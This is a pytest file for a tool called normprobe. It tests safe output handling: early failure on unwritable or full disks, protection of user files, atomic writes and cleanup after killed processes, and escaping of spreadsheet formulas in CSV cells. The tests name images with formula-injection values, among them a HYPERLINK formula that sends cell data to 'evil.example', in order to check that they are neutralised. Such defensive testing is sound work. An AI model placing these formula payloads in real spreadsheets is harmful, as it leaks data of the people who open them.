"""Outputs (issue 14): nothing a user owns is lost, an output that cannot be written fails before any
work, a cache that cannot be written is a warning, CSV cells cannot run as spreadsheet formulas,
and a killed write leaves nothing behind for long."""

from __future__ import annotations

import contextlib
import csv
import errno
import json
import os
import shutil
import signal
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from types import SimpleNamespace

import numpy as np
import pandas as pd
import pytest
from analyze_helpers import DATA_ROOT, analyze_args, cli, shared_analysis, tiny_checkpoint
from PIL import Image

from normprobe import atomic
from normprobe.results import check_output_dir, read_results, write_results

USER_FILES = {
    "NOTES.md": b"# my notes\n",
    "figures/plot.png": b"\x89PNG my figure",
    "weights_final.bin": b"\x00" * 64,
    "tables/mine.csv": b"a,b\n1,2\n",
}


@pytest.fixture(scope="module")
def shared(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path, Path, str]:
    return shared_analysis(tmp_path_factory.getbasetemp())


@pytest.fixture(scope="module")
def photos(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Real CIFAR-10 test images as PNGs, named like spreadsheet formulas."""
    folder = tmp_path_factory.mktemp("photos") / "=cmd"
    folder.mkdir()
    images = np.load(DATA_ROOT / "cifar10_test.npz")["images"][:6]
    names = [
        '=HYPERLINK("evil.example?"&A1).png',
        "+SUM(A1).png",
        "-2+3.png",
        "@cmd.png",
        "plain.png",
        "-1.png",
    ]
    for name, image in zip(names, images, strict=True):
        Image.fromarray(image).save(folder / name)
    return folder


def _fails(*argv: str) -> str:
    """Exit status 2 and one line on stderr (besides rank's progress bar, which has no --quiet)."""
    status, stdout, stderr = cli(*argv)
    lines = [line for line in stderr.strip().splitlines() if line.strip() and not line.startswith("embed ")]
    assert status == 2 and len(lines) == 1 and lines[0].startswith("normprobe: error: "), (stdout, stderr)
    return lines[0]


def _put_user_files(folder: Path) -> None:
    for name, payload in USER_FILES.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(payload)


def _user_files_survive(folder: Path) -> None:
    for name, payload in USER_FILES.items():
        assert (folder / name).read_bytes() == payload, name


@contextlib.contextmanager
def read_only(folder: Path) -> Iterator[Path]:
    """``folder`` made read-only: mode 0555, and for root (which ignores modes) the immutable attribute."""
    root = os.geteuid() == 0
    folder.chmod(0o555)
    try:
        if root and subprocess.run(["chattr", "+i", str(folder)], capture_output=True).returncode != 0:
            pytest.skip("running as root where chattr +i is unavailable: cannot make a read-only folder")
        try:
            (folder / "probe").write_text("x")
        except OSError:
            yield folder
        else:
            pytest.skip("cannot make a read-only folder here")
    finally:
        if root:
            subprocess.run(["chattr", "-i", str(folder)], capture_output=True)
        folder.chmod(0o755)


# ----------------------------------------------------------------------------- outputs checked first


@pytest.mark.parametrize("command", ["analyze", "rank", "embed"])
def test_a_read_only_out_fails_before_any_work(command: str, photos: Path, tmp_path: Path) -> None:
    ro = tmp_path / "ro"
    ro.mkdir()
    (ro / "keep.txt").write_text("mine")
    missing = tmp_path / "no-such-checkpoint.pt"  # a checkpoint error would mean the output was checked later
    argv = {
        "analyze": analyze_args(missing, ro / "res", tmp_path / "cache", "--quiet"),
        "rank": ["rank", str(missing), str(photos), "--out", str(ro / "sub" / "r.csv")],
        "embed": ["embed", str(missing), "--dataset", str(photos), "--out", str(ro / "e.npz")],
    }[command]
    with read_only(ro):
        message = _fails(*argv)
    assert "cannot write in" in message and str(ro) in message and "checkpoint" not in message
    assert sorted(p.name for p in ro.iterdir()) == ["keep.txt"] and (ro / "keep.txt").read_text() == "mine"


def test_a_full_disk_fails_before_any_work(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(atomic.shutil, "disk_usage", lambda path: SimpleNamespace(free=4096))
    message = _fails(*analyze_args(tmp_path / "missing.pt", tmp_path / "res", tmp_path / "cache", "--quiet"))
    assert "is full (4,096 bytes free)" in message


def test_a_write_that_fails_at_the_end_is_one_line_and_leaves_no_partial_file(
    photos: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    checkpoint = tiny_checkpoint(tmp_path / "tiny.pt")
    (tmp_path / "r.csv").write_text("previous table\n")

    def disk_full(*args: object, **kwargs: object) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(pd.DataFrame, "to_csv", disk_full)
    message = _fails(
        "rank",
        str(checkpoint),
        str(photos),
        "--out",
        str(tmp_path / "r.csv"),
        "--force",
        "--no-cache",
        "--no-sheet",
    )
    assert message.endswith(f"cannot write {tmp_path / 'r.csv'}: No space left on device")
    monkeypatch.setattr(np, "savez", disk_full)
    message = _fails(
        "embed", str(checkpoint), "--dataset", str(photos), "--out", str(tmp_path / "e.npz"), "--no-cache"
    )
    assert message.endswith("No space left on device")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["r.csv", "tiny.pt"]  # no temporary file left
    assert (tmp_path / "r.csv").read_text() == "previous table\n"


def test_a_cache_that_cannot_be_written_is_a_warning(photos: Path, tmp_path: Path) -> None:
    checkpoint = tiny_checkpoint(tmp_path / "tiny.pt")
    (tmp_path / "file").write_text("a file where the cache folder would go")
    status, stdout, stderr = cli(
        "embed",
        str(checkpoint),
        "--dataset",
        str(photos),
        "--cache-dir",
        str(tmp_path / "file" / "cache"),
        "--out",
        str(tmp_path / "e.npz"),
        "--no-progress",
    )
    assert status == 0, stderr
    assert stderr.strip().splitlines() == [
        f"normprobe: warning: could not write to the embedding cache {tmp_path / 'file' / 'cache'} "
        "(Not a directory); continuing without it"
    ]
    assert np.load(tmp_path / "e.npz")["z"].shape == (6, 32)


# ----------------------------------------------------------------------------- analyze --force


def test_force_replaces_only_what_normprobe_wrote(
    shared: tuple[Path, Path, Path, str], tmp_path: Path
) -> None:
    checkpoint, first, cache, _ = shared
    out = tmp_path / "res"
    shutil.copytree(first, out)
    recorded = json.loads((out / "run.json").read_text())["files"]
    assert "report.html" in recorded and "tables/norms.csv" in recorded and "samples.parquet" in recorded
    _put_user_files(out)
    assert "--force" in _fails(*analyze_args(checkpoint, out, cache, "--quiet"))
    status, _, stderr = cli(*analyze_args(checkpoint, out, cache, "--quiet", "--force", "--no-report"))
    assert status == 0, stderr
    _user_files_survive(out)
    assert not (out / "report.html").exists()  # normprobe's, recorded, and not written this time
    again = read_results(out)
    assert "report.html" not in again.run.files and len(again.samples) == len(read_results(first).samples)
    (out / "report.html").write_text("my own report")  # not normprobe's any more: a run with a report refuses
    message = _fails(*analyze_args(checkpoint, out, cache, "--quiet", "--force"))
    assert f"{out / 'report.html'} exists but was not written by normprobe" in message
    assert (out / "report.html").read_text() == "my own report"
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".")]  # no staging folder left


def test_force_on_a_folder_written_before_files_were_recorded(
    shared: tuple[Path, Path, Path, str], tmp_path: Path
) -> None:
    checkpoint, first, cache, _ = shared
    out = tmp_path / "old"
    shutil.copytree(first, out)
    run = json.loads((out / "run.json").read_text())
    del run["files"]
    (out / "run.json").write_text(json.dumps(run))
    _put_user_files(out)
    status, _, stderr = cli(*analyze_args(checkpoint, out, cache, "--quiet", "--force", "--no-report"))
    assert status == 0, stderr
    _user_files_survive(out)
    assert not (out / "report.html").exists() and read_results(out).run.files is not None


@pytest.mark.parametrize(
    "run_json",
    [
        None,  # only the names: an empty run.json and samples.parquet
        "{not json",
        '{"normprobe_version": "0.1.0"}',
        "recorded: NOTES.md",  # a valid run.json that claims a user's file as normprobe's
        "recorded: ../outside.txt",
    ],
)
def test_force_refuses_a_folder_that_only_looks_like_results(
    run_json: str | None, shared: tuple[Path, Path, Path, str], tmp_path: Path
) -> None:
    checkpoint, first, cache, _ = shared
    out = tmp_path / "lookalike"
    out.mkdir()
    _put_user_files(out)
    (tmp_path / "outside.txt").write_text("outside")
    (out / "samples.parquet").write_bytes((first / "samples.parquet").read_bytes())
    if run_json is None:
        (out / "run.json").write_text("")
    elif run_json.startswith("recorded: "):
        run = json.loads((first / "run.json").read_text())
        (out / "run.json").write_text(json.dumps({**run, "files": [run_json.removeprefix("recorded: ")]}))
    else:
        (out / "run.json").write_text(run_json)
    before = {p: p.read_bytes() for p in out.rglob("*") if p.is_file()}
    message = _fails(*analyze_args(checkpoint, out, cache, "--quiet", "--force"))
    assert "is not empty and not a normprobe results folder (no valid run.json)" in message
    assert {p: p.read_bytes() for p in out.rglob("*") if p.is_file()} == before
    assert (tmp_path / "outside.txt").read_text() == "outside"


# ----------------------------------------------------------------------------- rank and embed outputs


def test_rank_never_overwrites_the_users_files_unless_forced(photos: Path, tmp_path: Path) -> None:
    checkpoint = tiny_checkpoint(tmp_path / "tiny.pt")
    r = tmp_path / "r"
    r.mkdir()
    (r / "mine.png").write_bytes(b"my picture")
    (r / "mine.html").write_text("my page")
    args = ["rank", str(checkpoint), str(photos), "--out", str(r / "mine.csv"), "--no-cache"]
    message = _fails(*args)
    assert f"{r / 'mine.png'} already exists, and rank writes a contact sheet there" in message
    assert "--force" in message and sorted(p.name for p in r.iterdir()) == ["mine.html", "mine.png"]
    assert (r / "mine.png").read_bytes() == b"my picture" and (r / "mine.html").read_text() == "my page"
    status, _, stderr = cli(*args, "--no-sheet")  # the sheets are not written: the table may go
    assert status == 0, stderr
    assert "mine.csv already exists; pass --force" in _fails(*args, "--no-sheet")
    status, _, stderr = cli(*args, "--force")
    assert status == 0, stderr
    assert (r / "mine.png").read_bytes()[:4] == b"\x89PNG" and "<!DOCTYPE html>" in (
        r / "mine.html"
    ).read_text()


def test_rank_creates_its_output_folder(photos: Path, tmp_path: Path) -> None:
    checkpoint = tiny_checkpoint(tmp_path / "tiny.pt")
    out = tmp_path / "new" / "deeper" / "ranked.csv"
    status, _, stderr = cli("rank", str(checkpoint), str(photos), "--out", str(out), "--no-cache")
    assert status == 0, stderr
    assert sorted(p.name for p in out.parent.iterdir()) == ["ranked.csv", "ranked.html", "ranked.png"]


def test_embed_never_overwrites_unless_forced(photos: Path, tmp_path: Path) -> None:
    checkpoint = tiny_checkpoint(tmp_path / "tiny.pt")
    out = tmp_path / "existing.npz"
    out.write_bytes(b"my embeddings")
    args = [
        "embed",
        str(checkpoint),
        "--dataset",
        str(photos),
        "--out",
        str(out),
        "--no-cache",
        "--no-progress",
    ]
    assert f"--out: {out} already exists; pass --force to overwrite it" in _fails(*args)
    assert out.read_bytes() == b"my embeddings"
    status, _, stderr = cli(*args, "--force")
    assert status == 0, stderr
    assert np.load(out)["feats"].shape == (6, 64)


# ----------------------------------------------------------------------------- CSV cells


def _formula_cells(path: Path) -> list[str]:
    """Cells of a CSV file that a spreadsheet would evaluate (numbers excepted)."""
    with open(path, newline="", encoding="utf-8") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    bad = []
    for cell in cells:
        if cell[:1] in ("=", "+", "-", "@"):
            try:
                float(cell)
            except ValueError:
                bad.append(cell)
    return bad


def test_csv_cells_cannot_run_as_formulas(photos: Path, tmp_path: Path) -> None:
    checkpoint = tiny_checkpoint(tmp_path / "tiny.pt")
    out = tmp_path / "ranked.csv"
    status, _, stderr = cli(
        "rank",
        str(checkpoint),
        str(photos),
        "--out",
        str(out),
        "--reference",
        str(photos),
        "--ood-k",
        "2",
        "--no-cache",
    )
    assert status == 0, stderr
    assert _formula_cells(out) == []
    table = pd.read_csv(out)
    assert set(table["id"]) == {
        '\'=HYPERLINK("evil.example?"&A1).png',
        "'+SUM(A1).png",
        "'-2+3.png",
        "'@cmd.png",
        "plain.png",
        "'-1.png",
    }
    assert (table["score_knn"] <= 0).all()  # negative numbers stay numbers
    assert table["dataset"].eq("'=cmd").all()
    parquet = tmp_path / "ranked.parquet"
    assert (
        cli("rank", str(checkpoint), str(photos), "--out", str(parquet), "--no-sheet", "--no-cache")[0] == 0
    )
    assert '=HYPERLINK("evil.example?"&A1).png' in set(
        pd.read_parquet(parquet)["id"]
    )  # Parquet keeps the names


def test_results_tables_cannot_run_as_formulas(
    shared: tuple[Path, Path, Path, str], photos: Path, tmp_path: Path
) -> None:
    checkpoint, _, cache, _ = shared
    out = tmp_path / "res"
    status, _, stderr = cli(
        *analyze_args(checkpoint, out, cache, "--quiet", "--no-report", "--ood", str(photos))
    )
    assert status == 0, stderr
    tables = sorted((out / "tables").glob("*.csv"))
    assert tables and all(_formula_cells(t) == [] for t in tables)
    assert "'=cmd/folder" in set(read_results(out).table("ood")["ood_set"])
    samples = read_results(out).samples
    assert '=HYPERLINK("evil.example?"&A1).png' in set(samples["id"])  # samples.parquet keeps the names


# ----------------------------------------------------------------------------- killed writes


KILLED_WRITE = """
import os, signal, sys
import pandas as pd
from normprobe.results import read_results, write_results

results = read_results(sys.argv[1])
pd.DataFrame.to_csv = lambda *args, **kwargs: os.kill(os.getpid(), signal.SIGKILL)
write_results(sys.argv[2], results.run, results.samples, {"norms": results.table("norms")})
"""


def test_a_staging_folder_left_by_a_killed_write_is_removed_by_the_next_run(
    shared: tuple[Path, Path, Path, str], tmp_path: Path
) -> None:
    _, first, _, _ = shared
    parent = tmp_path / "parent"
    parent.mkdir()
    env = {
        **os.environ,
        "PYTHONPATH": os.pathsep.join([str(Path(__file__).parents[1]), os.environ.get("PYTHONPATH", "")]),
    }
    done = subprocess.run(
        [sys.executable, "-c", KILLED_WRITE, str(first), str(parent / "res")], env=env, timeout=120
    )
    assert done.returncode == -signal.SIGKILL
    (staging,) = parent.iterdir()
    assert (
        staging.name.startswith(".res.tmp-")
        and (staging / "run.json").is_file()
        and not (parent / "res").exists()
    )

    live = parent / f".other.tmp-{os.getppid()}-abcdefgh"  # a live process's: kept
    live.mkdir()
    legacy = parent / ".older.tmp-k3j_x9ab"  # an old version's (no PID), an hour old: removed
    (legacy / "tables").mkdir(parents=True)
    (legacy / "tables" / "norms.csv").write_text("x")
    os.utime(legacy, (0, os.path.getmtime(legacy) - 3600))
    mine = (
        parent / f".notes.tmp-{staging.name.split('-')[1]}-abcdefgh"
    )  # dead PID but a user's file inside: kept
    mine.mkdir()
    (mine / "NOTES.md").write_text("mine")

    check_output_dir(parent / "res")  # the next run into the same parent
    assert sorted(p.name for p in parent.iterdir()) == sorted([live.name, mine.name])
    write_results(parent / "res", read_results(first).run, read_results(first).samples, {})
    assert read_results(parent / "res").samples.equals(read_results(first).samples)


def test_a_temporary_file_left_by_a_killed_write_is_removed_by_the_next_write(tmp_path: Path) -> None:
    code = (
        "import os, signal, sys; from pathlib import Path; from normprobe.atomic import atomic_write; "
        "atomic_write(Path(sys.argv[1]), lambda tmp: (tmp.write_text('half'), os.kill(os.getpid(), signal.SIGKILL)))"
    )
    env = {
        **os.environ,
        "PYTHONPATH": os.pathsep.join([str(Path(__file__).parents[1]), os.environ.get("PYTHONPATH", "")]),
    }
    target = tmp_path / "ranked.csv"
    done = subprocess.run([sys.executable, "-c", code, str(target)], env=env, timeout=60)
    assert done.returncode == -signal.SIGKILL
    (left,) = tmp_path.iterdir()
    assert left.name.startswith(".ranked.csv.tmp-")
    (tmp_path / ".other.csv.tmp-1-abcdefgh").write_text("another target's: not this write's business")
    atomic.atomic_write(target, lambda tmp: tmp.write_text("whole"))
    assert sorted(p.name for p in tmp_path.iterdir()) == [".other.csv.tmp-1-abcdefgh", "ranked.csv"]
    assert target.read_text() == "whole"
